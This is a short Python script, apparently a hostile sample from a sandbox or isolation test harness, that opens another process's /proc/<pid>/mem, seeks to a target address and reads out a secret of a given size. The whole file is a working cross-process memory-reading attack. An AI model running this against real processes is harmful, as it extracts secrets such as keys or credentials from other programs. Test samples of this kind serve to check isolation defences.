"""Search the memory of the arena for its secret."""

from pathlib import Path

from hostile import targets, tell

start = targets["arena_address"]
with Path(f"/proc/{targets['arena_pid']}/mem").open("rb", buffering=0) as memory:
    memory.seek(start)
    tell(memory.read(targets["secret_size"]))
